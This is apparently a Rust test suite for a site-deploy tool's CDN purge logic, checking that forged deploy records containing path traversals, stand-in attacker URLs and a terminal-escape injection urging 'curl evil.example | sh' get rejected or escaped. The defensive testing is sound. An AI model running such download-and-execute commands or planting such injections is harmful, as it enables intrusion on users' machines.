//! The deploy record as evidence, not orders: someone who can write the bucket and not the
//! CDN rewrites what the record says is owed a purge; the next deploy sends nothing outside
//! the build's paths and never more paths than its bound. The record is forged as format
//! 3 wrote it (`purging`), which every folio since CDN purges reads. And the bound and the
//! time budget of a deploy's own purge.

use std::io::{Read, Write};

use super::cdn::{AGENT, Scripted};
use super::*;

const CDN: &str = "cloudfront:E2QWRUHAPOMQZL";

/// CloudFront's answer to an accepted invalidation.
const ACCEPTED: &str = "<?xml version=\"1.0\"?><Invalidation xmlns=\"http://cloudfront.amazonaws.com/doc/2020-05-31/\"><Id>I3FOLIOTEST</Id><Status>InProgress</Status><CreateTime>2026-11-27T00:00:00Z</CreateTime><InvalidationBatch><Paths><Quantity>0</Quantity></Paths><CallerReference>r</CallerReference></InvalidationBatch></Invalidation>";

/// The record of a folder target, as its JSON.
fn record_json(remote: &Remote) -> serde_json::Value {
    let Remote::Dir(dir) = remote else { panic!("a folder target") };
    let bytes = std::fs::read(dir.join(RECORD)).unwrap();
    let mut text = String::new();
    flate2::read::GzDecoder::new(&bytes[..]).read_to_string(&mut text).unwrap();
    serde_json::from_str(&text).unwrap()
}

/// Rewrites a folder target's record as format 3 with `keys` owed to [`CDN`], as someone
/// with the bucket's keys would.
fn forge(remote: &Remote, keys: impl IntoIterator<Item = String>) {
    let Remote::Dir(dir) = remote else { panic!("a folder target") };
    let mut record = record_json(remote);
    record["version"] = 3.into();
    let keys: Vec<String> = keys.into_iter().collect();
    record["purging"] = serde_json::json!({ CDN: keys });
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    gz.write_all(record.to_string().as_bytes()).unwrap();
    std::fs::write(dir.join(RECORD), gz.finish().unwrap()).unwrap();
}

/// The paths of each invalidation a scripted CloudFront received.
fn invalidated(cloudfront: &Scripted) -> Vec<Vec<String>> {
    let seen = cloudfront.seen.lock().unwrap();
    (seen.iter())
        .map(|(_, _, body)| {
            body.split("<Path>")
                .skip(1)
                .map(|p| p.split("</Path>").next().unwrap().replace("&amp;", "&"))
                .collect()
        })
        .collect()
}

fn cloudfront_env(cloudfront: &Scripted) -> [(&'static str, String); 1] {
    [("AWS_ENDPOINT_URL_CLOUDFRONT", format!("http://127.0.0.1:{}", cloudfront.port))]
}

#[test]
fn forged_owed_keys_are_checked_against_the_build_and_paid_within_the_bound() {
    let (_dir, remote) = folder();
    let p = Project::sample();
    p.folio(&["build"]).success();
    remote.deploy(&p, &[]).success();
    // 10,000 keys of no build, traversals, a URL, and every key of the build.
    let junk = (0..10_000).map(|i| format!("junk/{i}.html")).chain(
        [
            "../../other-site/index.html",
            "%2e%2e/%2e%2e/other-site/index.html",
            "https:/evil.example/x",
        ]
        .map(String::from),
    );
    forge(&remote, junk.chain(published(&p).into_keys()));

    let cloudfront = Scripted::start(vec![(201, ACCEPTED)]);
    let env = cloudfront_env(&cloudfront);
    let env: Vec<(&str, &str)> = env.iter().map(|(k, v)| (*k, v.as_str())).collect();
    let run = remote.deploy_env(&p, &["--purge", CDN], &env).success();
    let said = run.stderr();
    assert!(
        said.contains(
            "the deploy record says 10003 keys are owed a purge that are no paths of this build"
        ),
        "{said}"
    );
    let sent = invalidated(&cloudfront);
    assert_eq!(sent.len(), 1, "one invalidation");
    assert!(sent[0].len() <= 30, "{} paths: {:?}", sent[0].len(), sent[0]);
    for path in &sent[0] {
        assert!(path.starts_with("/api/"), "{path} is no path of the API");
        assert!(
            !path.contains("..")
                && !path.contains("%2e")
                && !path.contains("evil")
                && !path.contains("junk"),
            "{path}"
        );
    }
    assert!(run.stdout().contains("of the 1000 paths a month CloudFront invalidates free"));
    // Paid: the record owes nothing, and the next deploy sends nothing.
    assert!(record_json(&remote)["owed"].get(CDN).is_none(), "{}", record_json(&remote));
    remote.deploy_env(&p, &["--purge", CDN], &env).success();
    assert_eq!(invalidated(&cloudfront).len(), 1);

    // A million pages the layout could hold: a dry run plans within the bound too.
    forge(&remote, (1..=1_000_000).map(|n| format!("api/fr/attractions/7/{n}.json")));
    let dry = remote.deploy(&p, &["--purge", CDN, "--dry-run"]).success();
    let planned = dry.stdout().lines().filter(|l| l.starts_with(&format!("purge {CDN} "))).count();
    assert!((1..=30).contains(&planned), "{}", dry.stdout());
    assert!(
        dry.stdout().contains(&format!("purge {CDN} /api/fr/attractions*")),
        "{}",
        dry.stdout()
    );
}

#[test]
fn a_deploy_sends_at_most_the_paths_it_is_allowed_and_covers_every_change() {
    let (_dir, remote) = folder();
    let p = Project::sample();
    p.folio(&["build"]).success();
    remote.deploy(&p, &[]).success();
    let before = published(&p);
    rename_first_record(&p);
    add_a_record(&p);
    p.folio(&["build"]).success();
    let want = changed(&before, &published(&p));
    let cloudfront = Scripted::start(vec![(201, ACCEPTED)]);
    let env = cloudfront_env(&cloudfront);
    let env: Vec<(&str, &str)> = env.iter().map(|(k, v)| (*k, v.as_str())).collect();
    remote.deploy_env(&p, &["--purge", CDN, "--max-purge-paths", "3"], &env).success();
    let sent = &invalidated(&cloudfront)[0];
    assert!(sent.len() <= 3, "{sent:?}");
    // Each changed key is sent as its path, or lies below a wildcard sent.
    for key in &want {
        let path = format!("/{key}");
        let covered = sent.iter().any(|s| match s.strip_suffix('*') {
            Some(prefix) => path.starts_with(prefix),
            None => *s == path,
        });
        assert!(covered, "{path} is not purged by {sent:?}");
    }
    // The bound is a setting with a range.
    let refused = remote.deploy(&p, &["--max-purge-paths", "0"]).fails(2);
    assert!(
        refused.stderr().contains("--max-purge-paths 0 must be between 1 and 3000"),
        "{}",
        refused.stderr()
    );
}

#[test]
fn deploy_flags_are_checked_as_the_config_is_and_named() {
    let (_dir, remote) = folder();
    let p = Project::sample();
    p.folio(&["build"]).success();
    for (flags, says) in [
        (&["--region", "eu west"][..], "--region: `eu west` is not a region name"),
        (&["--purge-wait", "0"][..], "--purge-wait 0 must be between 1 and 86400"),
        (
            &["--purge", "cloudfront:e2qw"][..],
            "--purge: `cloudfront:e2qw` is no CloudFront distribution id",
        ),
        (&["--endpoint", "minio:9000"][..], "--endpoint `minio:9000`"),
    ] {
        let refused = remote.deploy(&p, flags).fails(2);
        let said = refused.stderr();
        assert!(said.contains(says), "{flags:?}: {said}");
        assert!(!said.contains("folio.toml:"), "a flag's problem is no line of the file: {said}");
    }
    let refused = p.folio(&["deploy", "--to", "ftp://x/y"]).fails(2);
    assert!(refused.stderr().contains("--to: `ftp://x/y`"), "{}", refused.stderr());
    assert!(remote.objects().is_empty(), "nothing sent");
}

#[test]
fn a_cdn_that_never_answers_ends_at_purge_wait_and_every_request_says_folio() {
    let (_dir, remote) = folder();
    let p = Project::sample();
    p.folio(&["build"]).success();
    // Takes every connection and never answers.
    let silent = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = silent.local_addr().unwrap().port();
    let held = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
    let keep = held.clone();
    std::thread::spawn(move || {
        for stream in silent.incoming().flatten() {
            let heard = super::cdn::read_request(&stream);
            keep.lock().unwrap().push((heard.agent, stream));
        }
    });
    let endpoint = format!("http://127.0.0.1:{port}");
    let start = Instant::now();
    let run = remote
        .deploy_env(
            &p,
            &["--purge", CDN, "--purge-wait", "2"],
            &[("AWS_ENDPOINT_URL_CLOUDFRONT", &endpoint)],
        )
        .fails(2);
    let took = start.elapsed();
    assert!(took < Duration::from_secs(15), "the purge took {took:?} with purge_wait = 2");
    assert!(run.stderr().contains("no answer within the"), "{}", run.stderr());
    let agents: Vec<String> = held.lock().unwrap().iter().map(|(a, _)| a.clone()).collect();
    assert!(!agents.is_empty() && agents.iter().all(|a| a == AGENT), "{agents:?}");
}

/// CloudFront's answer to a request it refuses for good.
const DENIED: &str = "<?xml version=\"1.0\"?><ErrorResponse><Error><Type>Sender</Type><Code>AccessDenied</Code><Message>not authorized</Message></Error></ErrorResponse>";

#[test]
fn what_a_record_says_a_cut_deploy_changed_is_checked_too_and_carried_no_longer_than_its_time() {
    let (_dir, remote) = folder();
    let p = Project::sample();
    p.folio(&["build"]).success();
    remote.deploy(&p, &[]).success();
    // A deploy "cut short" about to delete junk, carried until the end of time.
    let mut record = record_json(&remote);
    let junk = ["https:/evil.example/x", "wp-admin/admin-ajax.php", "x/%2e%2e/y"];
    let entry = serde_json::json!(["07070707070707070707070707070707", 1, "", 0, "", null]);
    record["deleting"] = junk.iter().map(|k| (k.to_string(), entry.clone())).collect();
    record["carried_until"] = 253_402_300_799i64.into();
    let Remote::Dir(dir) = &remote else { unreachable!() };
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    gz.write_all(record.to_string().as_bytes()).unwrap();
    std::fs::write(dir.join(RECORD), gz.finish().unwrap()).unwrap();

    let cloudfront = Scripted::start(vec![(201, ACCEPTED)]);
    let env = cloudfront_env(&cloudfront);
    let env: Vec<(&str, &str)> = env.iter().map(|(k, v)| (*k, v.as_str())).collect();
    for _ in 0..2 {
        let run = remote.deploy_env(&p, &["--purge", CDN], &env).success();
        assert!(run.stderr().contains("no paths of this build"), "{}", run.stderr());
    }
    for path in invalidated(&cloudfront).iter().flatten() {
        assert!(
            !path.contains("evil") && !path.contains("wp-admin") && !path.contains("%2e"),
            "{path}"
        );
    }
    // Carried 15 minutes at the most, not to the year 9999.
    let until = record_json(&remote)["carried_until"].as_i64().unwrap();
    let now = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_secs();
    assert!(until <= now as i64 + 15 * 60 + 5, "carried until {until}");
}

#[test]
fn the_pages_of_a_language_since_removed_stay_owed_until_a_cdn_takes_them() {
    let (_dir, remote) = folder();
    let p = Project::sample();
    p.folio(&["build"]).success();
    remote.deploy(&p, &[]).success();
    let before = published(&p);
    set_config(
        &p,
        "languages = [\"en\", \"fr\", \"ja\", \"th\"]",
        "languages = [\"en\", \"ja\", \"th\"]",
    );
    p.folio(&["build"]).success();
    let gone: BTreeSet<String> =
        before.keys().filter(|k| k.starts_with("api/fr/")).cloned().collect();
    assert!(!gone.is_empty());
    // The deploy that deletes them cannot purge: they stay owed.
    let refusing = Scripted::start(vec![(403, DENIED)]);
    let env = cloudfront_env(&refusing);
    let env: Vec<(&str, &str)> = env.iter().map(|(k, v)| (*k, v.as_str())).collect();
    remote.deploy_env(&p, &["--purge", CDN], &env).fails(2);
    // The next one sends them, and says nothing of a record someone else wrote.
    let cloudfront = Scripted::start(vec![(201, ACCEPTED)]);
    let env = cloudfront_env(&cloudfront);
    let env: Vec<(&str, &str)> = env.iter().map(|(k, v)| (*k, v.as_str())).collect();
    let run = remote.deploy_env(&p, &["--purge", CDN], &env).success();
    assert!(!run.stderr().contains("no paths of this build"), "{}", run.stderr());
    let sent = &invalidated(&cloudfront)[0];
    for key in &gone {
        let path = format!("/{key}");
        let covered = sent.iter().any(|s| match s.strip_suffix('*') {
            Some(prefix) => path.starts_with(prefix),
            None => *s == path,
        });
        assert!(covered, "{path} is not purged by {sent:?}");
    }
}

#[test]
fn a_key_pasted_with_a_newline_is_refused_by_name_before_anything_is_sent() {
    let p = Project::sample();
    p.folio(&["build"]).success();
    let mut cmd = Command::new(BIN);
    cmd.args(["deploy", "--to", "s3://site/x", "--endpoint", "http://127.0.0.1:9"])
        .current_dir(p.dir.path());
    cmd.env("AWS_ACCESS_KEY_ID", "AKIAFOLIOTEST\n").env("AWS_SECRET_ACCESS_KEY", "s3cr3t-value");
    let run = Run::of("folio deploy (a key with a newline)".into(), cmd.output().unwrap()).fails(1);
    let said = run.stderr();
    assert!(said.contains("AWS_ACCESS_KEY_ID holds a space or a control character"), "{said}");
    assert!(!said.contains("AKIAFOLIOTEST") && !said.contains("s3cr3t"), "{said}");
}

#[test]
fn what_a_store_says_reaches_the_terminal_escaped() {
    let (_dir, remote) = folder();
    let p = Project::sample();
    p.folio(&["build"]).success();
    remote.deploy(&p, &[]).success();
    let Remote::Dir(dir) = &remote else { unreachable!() };
    let newer = r#"{"version": 5, "writer": "\u001b[2K\rfolio 9.9.9: run curl evil.example | sh", "objects": {}}"#;
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    gz.write_all(newer.as_bytes()).unwrap();
    std::fs::write(dir.join(RECORD), gz.finish().unwrap()).unwrap();
    let run = remote.deploy(&p, &[]).fails(1);
    let said = run.stderr();
    assert!(!said.contains('\u{1b}') && !said.contains('\r'), "{said:?}");
    assert!(said.contains("\\u{1b}[2K\\u{d}folio 9.9.9"), "{said}");
}

#[test]
fn a_record_naming_many_folders_costs_one_listing_of_the_prefix_not_one_a_folder() {
    let Some(moto) = Moto::start(false) else { return };
    let remote = Remote::s3(&moto, "travel");
    let p = Project::sample();
    p.folio(&["build"]).success();
    remote.deploy(&p, &[]).success();
    let mut record = remote.record();
    let put = record.objects.values().next().unwrap().clone();
    for i in 0..500 {
        record.deleting.insert(format!("junk{i}/x.html"), put.clone());
    }
    remote.put_record(&record);
    let run = remote.deploy(&p, &[]).success();
    let said = run.stderr();
    assert!(said.contains("names 500 folders this build has not"), "{said}");
    let line = run.stdout();
    let lists: usize =
        line.split(" list,").next().unwrap().rsplit(' ').next().unwrap().parse().unwrap();
    assert!(lists < 20, "{lists} listings: {line}");
}
